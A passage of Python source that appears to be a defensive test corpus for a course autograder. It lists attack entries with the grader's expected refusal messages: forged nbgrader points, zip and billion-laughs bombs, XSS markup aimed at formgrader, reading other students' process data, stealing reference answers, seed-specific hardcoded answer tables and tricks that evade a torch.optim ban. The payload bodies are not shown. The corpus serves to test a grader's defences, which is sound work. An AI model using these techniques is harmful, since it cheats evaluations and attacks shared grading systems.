        "hands in no model; writes a valid ec_transfer_model.pt in the scratch folder while "
        "graded and tries to copy it into the course's submitted folders",
        None,
        cells=((TOP, WRITE_EC_MODEL),),
    ),
    # More than honest work, on top of the reference's answers ----------------------------------
    Attack(
        "answers_forged_points",
        "notebook_json",
        NB1,
        "full marks, plus a forged 100-point test cell and every test cell worth 100 times its points",
        "nbgrader metadata",
        base="answers",
        edit=forged_points_everywhere,
    ),
    # Hostile files ------------------------------------------------------------------------------
    Attack(
        "probe_data_zip_bomb",
        "hostile_files",
        NB1,
        "a last added cell rewrites every probe file as a torch zip whose deflated record "
        "inflates to 256 MiB (about 0.3 MB on disk)",
        "refused before decoding",
        cells=((END, PROBE_ZIP_BOMB),),
    ),
    Attack(
        "probe_data_zero_stride",
        "hostile_files",
        NB1,
        "a last added cell saves every probe file as a tensor of 2**40 numbers over one stored "
        "number (stride 0)",
        "refused before decoding",
        cells=((END, PROBE_ZERO_STRIDE),),
    ),
    Attack(
        "probe_data_billion_laughs",
        "hostile_files",
        NB1,
        "a last added cell saves every probe file as a list of 10**12 leaves built from memo "
        "references",
        "refused before decoding",
        cells=((END, PROBE_BILLION_LAUGHS),),
    ),
    Attack(
        "ec_model_zip_bomb",
        "hostile_files",
        NB4,
        "hands in an EC1 model file whose deflated tensor record inflates to 256 MiB",
        "ec_transfer__saved_model: the check's data was not what",
        files=(("ec_transfer_model.pt", ec_model_bomb),),
    ),
    Attack(
        "hundred_thousand_cells",
        "hostile_files",
        NB1,
        "100,000 added markdown cells (6 MB of notebook)",
        "is not graded",
        base="answers",
        edit=many_markdown_cells,
    ),
    Attack(
        "executed_notebook_json_bomb",
        "hostile_files",
        NB1,
        "notebook 1 replaces notebook 2's executed copy by 7.5 MB of [[],[],...] and makes it "
        "read-only",
        "the executed notebook was refused",
        cells=((TOP, EXECUTED_JSON_BOMB),),
        also=(NB2,),
    ),
    # Whole-submission limits and namespaces ----------------------------------------------------
    Attack(
        "memory_fanout",
        "resources",
        NB1,
        "six child processes each fill 1 GiB at once (the batch allows 3 GiB in all)",
        "memory limit reached",
        cells=((TOP, MEMORY_FANOUT),),
        needs="cgroup",
    ),
    Attack(
        "reach_the_network",
        "network",
        NB1,
        "connects to public DNS servers and to a service on the grading machine (loopback and "
        "its host name)",
        None,
        cells=((TOP, REACH_THE_NETWORK),),
        needs="namespaces",
    ),
    Attack(
        "read_command_lines",
        "reading",
        NB1,
        "reads every process's command line in /proc, looking for the grader's and other "
        "students' (autograder, pytest, nbgrader, other scratch folders)",
        None,
        cells=((TOP, READ_COMMAND_LINES),),
        needs="namespaces",
    ),
    Attack(
        "read_unlocked_clone",
        "reading",
        NB1,
        "reads the reference's answers from an ordinary, world-readable clone of the course "
        "repository elsewhere on the machine and runs them",
        None,
        cells=((TOP, READ_UNLOCKED_CLONE), *map(run_stolen, STEAL_INTO_CELLS)),
        needs="namespaces",
    ),
    # Markup: HTML, SVG, CSS and script for formgrader and the feedback pages -----------------
    Attack(
        "markup_in_written_answers",
        "markup",
        NB1,
        "every written answer and an added markdown cell carry script, svg onload, iframe "
        "srcdoc, img onerror, javascript: links (markdown, <a>, entity-coded, MathJax \\href), "
        "<style>, <meta refresh>, <base>, <form autofocus onfocus>, <object>/<embed>, MathML "
        "xlink:href and SVG <animate>: each would PUT a file through /api/contents",
        (MARKUP_FLAG, "q_lr_high", "your added cell"),
        base="answers",
        answers=(
            ("q_lr_high", markup_answer(["script", "svg_onload", "iframe_srcdoc"])),
            ("q_lr_low", markup_answer(["img_onerror", "md_link", "a_href"])),
            ("q_curvature", markup_answer(["style", "meta_refresh", "base_href", "form"])),
            ("q_wd_gradient", markup_answer(["object_embed", "math_xlink", "svg_animate"])),
            ("q_wd_update", markup_answer(["entity_link", "mathjax_href"])),
        ),
        edit=add_markup_cell,
    ),
    # Answer tables made at home for the default seed's inputs ---------------------------------
    Attack(
        "answer_table_ema",
        "answer_table",
        NB2,
        "ema_update returns (ema, ema_star_t) from a table made at home for the probes' inputs "
        "of the default seed, garbage for any other input",
        None,
        answers=(("ema_update", EMA_TABLE),),
    ),
    Attack(
        "answer_table_descend",
        "answer_table",
        NB1,
        "descend passes loss_fn the points of a table made at home with torch.optim.SGD for the "
        "probes' starts of the default seed and leaves x at the table's end; other starts stay put",
        None,
        answers=(("gd_loop", DESCEND_TABLE),),
    ),
    # Delegation, second round (issue 18): the policed answers run in an isolated process ------
    Attack(
        "descend_uses_sgd",
        "delegation",
        NB1,
        "Task 1.1's descend() calls torch.optim.SGD openly",
        ("isolated run tripped torch.optim.sgd.SGD", "reaches torch.optim"),
        answers=(("gd_loop", DESCEND_OPENLY),),
    ),
    Attack(
        "sgd_via_getmembers",
        "delegation",
        NB1,
        "SimpleGradientDescent subclasses torch.optim.SGD found through inspect.getmembers(torch) "
        "and restores Optimizer.__init__",
        "isolated run tripped torch.optim",
        answers=(("sgd_optimizer", SGD_VIA_GETMEMBERS),),
    ),
    Attack(
        "adam_via_attrgetter",
        "delegation",
        NB2,
        "ADAMOptimizer subclasses operator.attrgetter('op' + 'tim.Adam')(torch)",
        "isolated run tripped torch.optim",
        answers=(("adam_optimizer", ADAM_VIA_ATTRGETTER),),
    ),
    Attack(
        "runner_patch_in_answer",
        "delegation",
        NB1,
        "the probe-runner patch (runners replaced by torch.optim.SGD runs, Optimizer.__init__ "
        "restored) pasted into the Task 1.3 answer cell",
        ("isolated run tripped", "reaches torch.optim"),
        answers=(("sgd_optimizer", RUNNER_PATCH_IN_ANSWER),),
    ),
    Attack(
        "runner_patch_via_alias",
        "delegation",
        NB1,
        "SimpleGradientDescent's step() does nothing; an added cell patches the probe's runners "
        "through an alias (m = hw2checks.part1; m.run_steps = f)",
        "reaches torch.optim",
        answers=(("sgd_optimizer", LAZY_SGD),),
        cells=(("sgd_optimizer", RUNNER_PATCH_VIA_ALIAS),),
    ),
    Attack(
        "adam_from_gc",
        "delegation",
        NB2,
        "ADAMOptimizer subclasses the Adam class found in gc.get_objects()",
        "isolated run refused what its statements tried: gc.get_objects",
        answers=(("adam_optimizer", ADAM_FROM_GC),),
    ),
    Attack(
        "frame_walk_step",
        "delegation",
        NB1,
        "SimpleGradientDescent.step() walks sys._getframe().f_back to the probe's runner and "
        "does torch.optim.SGD's step there",
        "isolated run tripped torch.optim",
        answers=(("sgd_optimizer", FRAME_WALK),),
    ),
    Attack(
        "reload_torch_optim",
        "delegation",
        NB2,
        "importlib.reload of every torch.optim module, then ADAMOptimizer subclasses the fresh Adam",
        ("isolated run refused what its statements tried: open", "isolated run tripped"),
        answers=(("adam_optimizer", RELOAD_TORCH_OPTIM),),
    ),
    Attack(
        "exec_torch_source",
        "delegation",
        NB1,
        "torch/optim's optimizer.py and sgd.py read from disk and exec'd: SimpleGradientDescent "
        "is that SGD",
        ("isolated run refused what its statements tried: open", "hides what it calls"),
        answers=(("sgd_optimizer", EXEC_TORCH_SOURCE),),
    ),
    Attack(
        "fused_adam_kernel",
        "delegation",
        NB2,
        "ADAMOptimizer.step() calls torch._fused_adam_",
        "isolated run tripped torch._fused_adam_",
        answers=(("adam_optimizer", FUSED_ADAM),),
    ),
    Attack(
        "subprocess_descend",
        "delegation",
        NB1,
        "descend() runs torch.optim.SGD in a subprocess and replays its path",
        "isolated run tripped subprocess.Popen",
        answers=(("gd_loop", SUBPROCESS_DESCEND),),
    ),
    Attack(
        "honest_torch_optim_comparisons",
        "delegation",
        NB1,
        "honest: the reference's answers, a demo line comparing with torch.optim.SGD in the "
        "Task 1.3 answer cell and a comparison cell with torch.optim.Adam; keeps full marks",
        None,
        base="answers",
        answers=(("sgd_optimizer", HONEST_DEMO_IN_ANSWER),),
        cells=(("gd_loop", HONEST_COMPARISON_CELL),),
    ),
    # Last, before the victims (tests/test_cheating_corpus.py VICTIMS), which it targets -------
    Attack(
        "tmp_churn",
        "writing",
        NB1,
        "after 8 s, for 15 s makes and removes 300 files at a time in /tmp, /var/tmp and "
        "/dev/shm, while the grader cleans up after the student graded beside it",
        None,
        base="answers",
        cells=((END, CHURN),),
    ),
]
